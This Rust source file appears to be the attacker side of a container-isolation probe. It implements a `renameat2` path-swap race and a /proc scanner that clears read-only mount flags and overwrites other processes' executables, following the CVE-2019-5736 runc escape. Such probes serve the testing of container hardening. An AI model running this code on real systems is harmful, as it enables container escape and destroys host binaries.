//! What an attacker does, for the probe: inside a container, or beside it on a volume that both can write to.

#![allow(unsafe_code)]

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

/// Exchanges two paths, over and over, until it is killed; it does not outlive its parent.
pub fn swap(one: &str, other: &str) -> io::Result<String> {
    let (one, other) = (CString::new(one)?, CString::new(other)?);
    // SAFETY: prctl(2) takes a number; the paths are NUL-terminated and outlive the calls.
    unsafe {
        libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL);
        loop {
            let at = libc::AT_FDCWD;
            if libc::syscall(libc::SYS_renameat2, at, one.as_ptr(), at, other.as_ptr(), libc::RENAME_EXCHANGE)
                < 0
            {
                return Err(io::Error::last_os_error());
            }
        }
    }
}

/// For `milliseconds`, looks at every other process that can be seen: what it executes and what it holds. Then tries to
/// overwrite each executable that was caught, and is not called as the probe's own (CVE-2019-5736).
///
/// The answer: `seen=LINKS held=LINKS overwritten=COUNT`, lists separated by commas.
pub fn prowl(milliseconds: u64) -> String {
    let end = Instant::now() + Duration::from_millis(milliseconds);
    let own = fs::read_link("/proc/self/exe").ok();
    let (mut seen, mut held, mut caught) = (BTreeSet::new(), BTreeSet::new(), BTreeMap::new());
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let pid = entry.file_name().to_str().and_then(|name| name.parse().ok());
            let exe = entry.path().join("exe");
            let link = fs::read_link(&exe).ok();
            if pid.is_none_or(|pid: u32| pid == std::process::id()) || link == own {
                continue;
            }
            seen.extend(link.map(|link| link.to_string_lossy().into_owned()));
            let links: Vec<_> = fs::read_dir(entry.path().join("fd"))
                .into_iter()
                .flatten()
                .flatten()
                .filter_map(|fd| fs::read_link(fd.path()).ok())
                .collect();
            let file = File::open(&exe);
            // By now it may have become a program like this, whose descriptors are its own, or have ended: ENOENT, or EACCES when it
            // was reaped between the look-up of its link and the question whether we may follow that.
            let now = fs::read_link(&exe);
            if now.as_ref().ok() == own.as_ref()
                || now.is_err_and(|error| error.kind() == io::ErrorKind::NotFound || !entry.path().exists())
            {
                continue;
            }
            held.extend(links.iter().map(|link| link.to_string_lossy().into_owned()));
            file.iter().for_each(make_writable);
            if let Some((inode, file)) = file.ok().and_then(|file| Some((file.metadata().ok()?.ino(), file)))
            {
                caught.entry(inode).or_insert(file);
            }
        }
    }
    let list = |set: BTreeSet<String>| set.into_iter().collect::<Vec<_>>().join(",");
    // A file stays busy (ETXTBSY) until the last process of it has ended.
    std::thread::sleep(Duration::from_millis(300));
    let overwritten = caught.values().filter(|file| overwrite(file)).count();
    format!("seen={} held={} overwritten={overwritten}", list(seen), list(held))
}

/// Takes "read-only" from the mount that the file is on, as CAP_SYS_ADMIN may where it is mounted (mount_setattr(2)).
fn make_writable(file: &File) {
    let attr = [0, libc::MOUNT_ATTR_RDONLY, 0, 0];
    let size = size_of_val(&attr);
    // SAFETY: an empty path and one `mount_attr` of the stated size, both only read.
    unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            file.as_raw_fd(),
            c"".as_ptr(),
            libc::AT_EMPTY_PATH,
            attr.as_ptr(),
            size,
        );
    }
}

fn overwrite(file: &File) -> bool {
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    OpenOptions::new().write(true).open(path).and_then(|mut file| file.write_all(b"owned")).is_ok()
}
